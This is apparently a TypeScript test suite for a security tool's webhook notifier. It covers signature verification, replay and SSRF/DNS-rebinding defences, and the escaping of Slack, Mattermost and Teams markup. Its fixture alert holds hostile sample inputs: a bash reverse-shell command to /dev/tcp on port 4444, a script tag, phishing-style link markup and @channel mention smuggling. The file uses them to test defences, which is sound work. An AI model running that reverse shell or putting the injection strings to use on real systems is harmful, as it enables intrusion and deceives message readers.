/**
 * Signed webhooks against a local receiver that verifies Standard Webhooks signatures and refuses replays
 * (test/helpers/webhook-receiver.ts), inside a real activity context.
 */
import { randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { DestinationRefused, type Resolver } from '../lib/ssrf.js';
import { startWebhookReceiver, type WebhookReceiver } from '../../test/helpers/webhook-receiver.js';
import type { DeliveryReceipt, NotificationMessage } from '../../src/contracts/notify.js';
import type { IncidentNotice } from '../../src/contracts/playbook.js';
import { ConfigError } from '../../src/errors.js';
import type { Mailer } from './client.js';
import { loadChannelsConfig } from './config.js';
import { createNotifyActivities } from './index.js';
import { createWebhookSender, type OutboundGuard } from './webhook.js';

const SECRET = `whsec_${randomBytes(32).toString('base64')}`;

const notice: IncidentNotice = {
  incidentId: 'inc-web-01-0123456789abcdef',
  host: 'web-01 @channel <!channel>',
  rule: 'Run shell [click me](https://evil.test) <https://evil.test|login> **bold**',
  severity: 'high',
  verdict: 'malicious',
  riskScore: 90,
  techniques: [{ id: 'T1059.004', known: true, name: 'Unix Shell', tactics: ['execution'] }],
  lineage: ['bash', 'nginx'],
  reasons: ['reverse-shell-pattern (+35) {{DATE(2017-02-14T06:08:39Z,SHORT)}}'],
  recommended: [],
  eventCount: 3,
  firstSeen: '2026-11-26T09:00:00Z',
  commandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <script>alert(1)</script>',
  playbook: 'suspicious-process@1.0.0',
};
const message: NotificationMessage = { kind: 'incident', notice };

const noMail: Mailer = {
  send: () => Promise.reject(new Error('no mail in these tests')),
  close: () => undefined,
};

/** The receivers of these tests listen on loopback. */
const LOOPBACK = { allow: ['127.0.0.1/32'] };

let rx: WebhookReceiver | undefined;
afterEach(async () => rx?.close());

function activities(hooks: object[], guard?: OutboundGuard) {
  const cfg = loadChannelsConfig({ VIGIL_WEBHOOKS: JSON.stringify(hooks) });
  return createNotifyActivities(
    noMail,
    { VIGIL_MAIL_FROM: 'vigil@corp.test', VIGIL_MAIL_TO: ['soc@corp.test'] },
    { config: cfg, webhooks: createWebhookSender(cfg.VIGIL_WEBHOOKS, { policy: LOOPBACK, guard }) },
  );
}

/** Run notifyWebhook as activity `activityId` of one workflow run: same id = a retry of the same activity. */
const post = (
  a: ReturnType<typeof activities>,
  webhook: string,
  activityId = '9',
): Promise<DeliveryReceipt> =>
  new MockActivityEnvironment({
    activityId,
    workflowExecution: { workflowId: 'inc-web-01-0123456789abcdef', runId: 'run-1' },
  }).run((i: { webhook: string; message: NotificationMessage }) => a.notifyWebhook(i), { webhook, message });

const failureOf = async (p: Promise<unknown>) => {
  const e = await p.then(
    () => undefined,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(ApplicationFailure);
  return e as ApplicationFailure;
};

describe('notifyWebhook (generic, signed)', () => {
  it('delivers a signed JSON notice that the receiver verifies, with the id and timestamp headers', async () => {
    rx = await startWebhookReceiver(SECRET);
    const r = await post(activities([{ name: 'siem', url: `${rx.url}/hook`, secret: SECRET }]), 'siem');
    expect(rx.processed).toHaveLength(1);
    const got = rx.processed[0];
    expect(got?.id).toBe(r.id);
    expect(r.id).toMatch(/^msg_[0-9a-f]{32}$/);
    expect(got?.headers['idempotency-key']).toBe(r.id);
    expect(Math.abs((got?.timestamp ?? 0) - Date.now() / 1000)).toBeLessThan(10);
    expect(got?.body).toMatchObject({ type: 'vigil.incident.notice', id: r.id, data: notice });
    expect(r).toMatchObject({ channel: 'webhook:siem', detail: { status: 200 } });
  });

  it('is refused by the receiver when signed with another secret, and fails non-retryably', async () => {
    rx = await startWebhookReceiver(SECRET);
    const other = `whsec_${randomBytes(32).toString('base64')}`;
    const f = await failureOf(post(activities([{ name: 'siem', url: rx.url, secret: other }]), 'siem'));
    expect(rx.log.map((l) => l.why)).toEqual(['bad signature']);
    expect(rx.processed).toHaveLength(0);
    expect([f.type, f.nonRetryable]).toEqual(['Unauthenticated', true]);
    expect(f.message).not.toContain(other.slice(6, 20));
  });

  it('gives the receiver what it needs to refuse replays: a repeated id, a re-dated signature, a tampered body and a stale timestamp are not processed', async () => {
    rx = await startWebhookReceiver(SECRET);
    await post(activities([{ name: 'siem', url: rx.url, secret: SECRET }]), 'siem');
    const first = rx.processed[0];
    if (!first) throw new Error('not delivered');
    const replay = (headers: Record<string, string>) =>
      fetch(rx!.url, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'webhook-id': String(first.headers['webhook-id']),
          'webhook-timestamp': String(first.headers['webhook-timestamp']),
          'webhook-signature': String(first.headers['webhook-signature']),
          ...headers,
        },
        body: first.raw,
      }).then((res) => res.status);
    // The captured request replayed as is: acknowledged, not processed a second time.
    expect(await replay({})).toBe(200);
    // With a fresh timestamp but the old signature: refused.
    expect(await replay({ 'webhook-timestamp': String(Math.floor(Date.now() / 1000) + 1) })).toBe(401);
    // A tampered body: refused.
    const tampered = await fetch(rx.url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'webhook-id': 'msg_other',
        'webhook-timestamp': String(first.headers['webhook-timestamp']),
        'webhook-signature': String(first.headers['webhook-signature']),
      },
      body: first.raw.replace('malicious', 'benign'),
    });
    expect(tampered.status).toBe(401);
    expect(rx.processed).toHaveLength(1);
    // A request signed six minutes ago (a sender with a skewed clock, or a held-back capture): refused.
    const stale = createWebhookSender(
      [{ name: 'siem', url: rx.url, secret: SECRET, format: 'generic', timeout: 2000 }],
      {
        policy: LOOPBACK,
        now: () => Date.now() - 6 * 60_000,
      },
    );
    const f = await failureOf(stale.send('siem', 'msg_stale', message));
    expect(f.type).toBe('Unauthenticated');
    expect(rx.log.at(-1)).toEqual({ id: 'msg_stale', status: 401, why: 'timestamp outside tolerance' });
    expect(rx.processed).toHaveLength(1);
  });

  it('fails retryably on 5xx and, retried as the same activity, delivers with the same id once', async () => {
    rx = await startWebhookReceiver(SECRET);
    rx.script.push({ status: 503, body: 'maintenance' });
    const a = activities([{ name: 'siem', url: rx.url, secret: SECRET }]);
    const f = await failureOf(post(a, 'siem', '12'));
    expect([f.type, f.nonRetryable]).toEqual(['Unavailable', false]);
    const ok = await post(a, 'siem', '12');
    const again = await post(a, 'siem', '12'); // a retry after a lost answer: acknowledged, not processed
    expect(rx.log.map((l) => [l.id, l.status])).toEqual([
      [ok.id, 503],
      [ok.id, 200],
      [ok.id, 200],
    ]);
    expect(again.id).toBe(ok.id);
    expect(rx.processed.map((p) => p.id)).toEqual([ok.id]);
    const other = await post(a, 'siem', '13');
    expect(other.id).not.toBe(ok.id);
  });

  it('fails non-retryably on 4xx, and as RateLimited with the Retry-After delay on 429', async () => {
    rx = await startWebhookReceiver(SECRET);
    rx.script.push({ status: 400, body: 'bad payload' }, { status: 429, headers: { 'retry-after': '7' } });
    const a = activities([{ name: 'siem', url: rx.url, secret: SECRET }]);
    const bad = await failureOf(post(a, 'siem'));
    expect([bad.type, bad.nonRetryable]).toEqual(['UpstreamRejected', true]);
    expect(bad.message).toContain('bad payload');
    const limited = await failureOf(post(a, 'siem'));
    expect([limited.type, limited.nonRetryable, limited.nextRetryDelay]).toEqual([
      'RateLimited',
      false,
      7000,
    ]);
  });

  it('gives up on a receiver that does not answer within the timeout, retryably', async () => {
    rx = await startWebhookReceiver(SECRET);
    rx.script.push('hang');
    const started = Date.now();
    const f = await failureOf(
      post(activities([{ name: 'siem', url: rx.url, secret: SECRET, timeout: '500ms' }]), 'siem'),
    );
    expect(Date.now() - started).toBeLessThan(5000);
    expect([f.type, f.nonRetryable]).toEqual(['Unavailable', false]);
    expect(f.message).toContain('no answer within 500 ms');
  });

  it('does not follow a redirect', async () => {
    rx = await startWebhookReceiver(SECRET);
    const target = await startWebhookReceiver(SECRET);
    try {
      rx.script.push({ status: 307, headers: { location: `${target.url}/elsewhere` } });
      const f = await failureOf(post(activities([{ name: 'siem', url: rx.url, secret: SECRET }]), 'siem'));
      expect([f.type, f.nonRetryable]).toEqual(['UpstreamRejected', true]);
      expect(target.log).toHaveLength(0);
    } finally {
      await target.close();
    }
  });

  it('asks the outbound guard before every request; a refusal sends nothing and never names the URL', async () => {
    rx = await startWebhookReceiver(SECRET);
    const asked: string[] = [];
    let allow = true;
    const guard: OutboundGuard = async (url) => {
      asked.push(url);
      if (!allow) throw new DestinationRefused(new URL(url).hostname, 'resolves to a private address');
    };
    const url = `${rx.url}/hooks/secret-token-123`;
    const a = activities([{ name: 'siem', url, secret: SECRET }], guard);
    await post(a, 'siem', '1');
    allow = false;
    const f = await failureOf(post(a, 'siem', '2'));
    expect(asked).toEqual([url, url]);
    expect(rx.log).toHaveLength(1);
    expect([f.type, f.nonRetryable]).toEqual(['Forbidden', true]);
    expect(f.message).not.toContain('secret-token-123');
  });

  it('connects only to addresses the policy allows, checked at connect time: a name rebound to an internal address is refused', async () => {
    rx = await startWebhookReceiver(SECRET);
    // An internal service on another loopback address, same port: what a rebound name would reach.
    const internalHits: string[] = [];
    const internal = createServer((q, r) => {
      internalHits.push(q.url ?? '');
      r.end('internal');
    });
    await new Promise<void>((ok) => internal.listen(rx!.port, '127.0.0.2', ok));
    try {
      const cfg = loadChannelsConfig({
        VIGIL_WEBHOOKS: JSON.stringify([{ name: 'siem', url: `${rx.url}/hook`, secret: SECRET }]),
      });
      // A name (the configuration takes plain http only for a loopback literal; the guard is what is tested).
      const target = { ...cfg.VIGIL_WEBHOOKS[0]!, url: `http://hooks.rebind.test:${rx.port}/hook` };
      // The name answers the allowed address first, then (a zero TTL later) the internal one.
      const answers: string[] = [];
      const rebinding: Resolver = async () => {
        const address = answers.length === 0 ? '127.0.0.1' : '127.0.0.2';
        answers.push(address);
        return [{ address, family: 4 }];
      };
      // A sender per delivery: each makes a new connection, so each resolves the name again.
      const send = () =>
        createWebhookSender([target], { policy: { allow: ['127.0.0.1/32'], resolver: rebinding } }).send(
          'siem',
          'msg_0123456789abcdef0123456789abcdef',
          message,
        );
      expect((await send()).status).toBe(200);
      const f = await failureOf(send());
      expect([f.type, f.nonRetryable]).toEqual(['Forbidden', true]);
      expect(f.message).toMatch(/outbound request refused/);
      expect(f.message).not.toContain('/hook');
      // One lookup per delivery (the check that decides is the one that connects), none reached inside.
      expect(answers).toEqual(['127.0.0.1', '127.0.0.2']);
      expect(internalHits).toEqual([]);
      expect(rx.processed).toHaveLength(1);
    } finally {
      await new Promise((ok) => internal.close(ok));
    }
  });

  it('retries when the guard cannot resolve the name right now (an outage, not a refusal)', async () => {
    rx = await startWebhookReceiver(SECRET);
    const guard: OutboundGuard = async () => {
      throw Object.assign(new Error('getaddrinfo EAI_AGAIN hooks.example'), { code: 'EAI_AGAIN' });
    };
    const f = await failureOf(
      post(activities([{ name: 'siem', url: rx.url, secret: SECRET }], guard), 'siem'),
    );
    expect([f.type, f.nonRetryable]).toEqual(['Unavailable', false]);
    expect(rx.log).toHaveLength(0);
  });

  it('keeps a chat webhook URL (it carries the token) out of failures', async () => {
    rx = await startWebhookReceiver();
    rx.script.push({ status: 404, body: 'no hook at /hooks/tok-abcdef' });
    const f = await failureOf(
      post(activities([{ name: 'mm', url: `${rx.url}/hooks/tok-abcdef`, format: 'mattermost' }]), 'mm'),
    );
    expect(f.type).toBe('NotFound');
    expect(f.message).not.toContain('tok-abcdef');
    expect(f.message).not.toContain(String(rx.port));
  });

  it('refuses an unknown webhook name and malformed input non-retryably', async () => {
    const a = activities([]);
    const unknown = await failureOf(post(a, 'nope'));
    expect([unknown.type, unknown.nonRetryable]).toEqual(['InvalidInput', true]);
    const bad = await failureOf(
      new MockActivityEnvironment().run((i: unknown) => a.notifyWebhook(i as never), {
        webhook: 'x',
        message: { kind: 'incident', notice: { ...notice, riskScore: 'high' } },
      }),
    );
    expect(bad.type).toBe('InvalidInput');
    expect(bad.message).toContain('riskScore');
  });
});

describe('chat payloads', () => {
  it('posts Mattermost {text} with event markup defused: no mention, link or template from the event', async () => {
    rx = await startWebhookReceiver();
    await post(activities([{ name: 'mm', url: rx.url, format: 'mattermost' }]), 'mm');
    const body = rx.processed[0]?.body as { text: string };
    expect(Object.keys(body)).toEqual(['text']);
    expect(body.text).toContain('**Vigil: MALICIOUS high on web\\-01 @\u200bchannel \\<\\!channel\\>**');
    expect(body.text).toContain('\\[click me\\]\\(https://evil\\.test\\)');
    expect(body.text).not.toMatch(/(^|[^\\])\[click me\]/);
    expect(body.text).not.toMatch(/@channel/);
    expect(body.text).not.toContain('{{DATE');
  });

  it('posts Slack {text} with &, <, > escaped as Slack documents, so <!channel> and <url|text> stay text', async () => {
    rx = await startWebhookReceiver();
    await post(activities([{ name: 'sl', url: rx.url, format: 'slack' }]), 'sl');
    const { text } = rx.processed[0]?.body as { text: string };
    expect(text).toContain('&lt;!channel&gt;');
    expect(text).toContain('&lt;https://evil.test|login&gt;');
    expect(text).toContain('&lt;script&gt;');
    expect(text).not.toMatch(/<[!@h]/);
  });

  it('posts a Teams Adaptive Card message with escaped facts', async () => {
    rx = await startWebhookReceiver();
    await post(activities([{ name: 'teams', url: rx.url, format: 'teams' }]), 'teams');
    const body = rx.processed[0]?.body as {
      type: string;
      attachments: {
        contentType: string;
        content: { type: string; body: { type: string; facts?: { title: string; value: string }[] }[] };
      }[];
    };
    expect(body.type).toBe('message');
    const card = body.attachments[0];
    expect(card?.contentType).toBe('application/vnd.microsoft.card.adaptive');
    expect(card?.content.type).toBe('AdaptiveCard');
    const facts = card?.content.body.find((b) => b.type === 'FactSet')?.facts ?? [];
    expect(facts.find((f) => f.title === 'Rule')?.value).toContain('\\[click me\\]');
    expect(JSON.stringify(card)).not.toContain('{{DATE');
  });
});

describe('webhook configuration', () => {
  const problem = (hooks: unknown) => {
    try {
      loadChannelsConfig({ VIGIL_WEBHOOKS: JSON.stringify(hooks) });
    } catch (e) {
      if (e instanceof ConfigError) return e.problems.map((p) => p.key);
      throw e;
    }
    return [];
  };
  it('names the key of every bad webhook setting', () => {
    expect(problem([{ name: 'a', url: 'http://hooks.example.com/x', secret: SECRET }])).toEqual([
      'VIGIL_WEBHOOKS.0.url',
    ]);
    expect(problem([{ name: 'a', url: 'https://hooks.example.com/x' }])).toEqual(['VIGIL_WEBHOOKS.0.secret']);
    expect(problem([{ name: 'a', url: 'https://h.example/x', secret: 'hunter2' }])).toEqual([
      'VIGIL_WEBHOOKS.0.secret',
    ]);
    expect(problem([{ name: 'a', url: 'https://u:p@h.example/x', format: 'slack' }])).toEqual([
      'VIGIL_WEBHOOKS.0.url',
    ]);
    expect(
      problem([
        { name: 'a', url: 'https://h.example/x', format: 'slack' },
        { name: 'a', url: 'https://h.example/y', format: 'slack' },
      ]),
    ).toEqual(['VIGIL_WEBHOOKS.1.name']);
    expect(problem([{ name: 'a', url: 'https://h.example/x', format: 'slack', limit: 0 }])).toEqual([
      'VIGIL_WEBHOOKS.0.limit',
    ]);
    expect(() => loadChannelsConfig({ VIGIL_WEBHOOKS: '[{' })).toThrow(/VIGIL_WEBHOOKS: is not valid JSON/);
  });
});
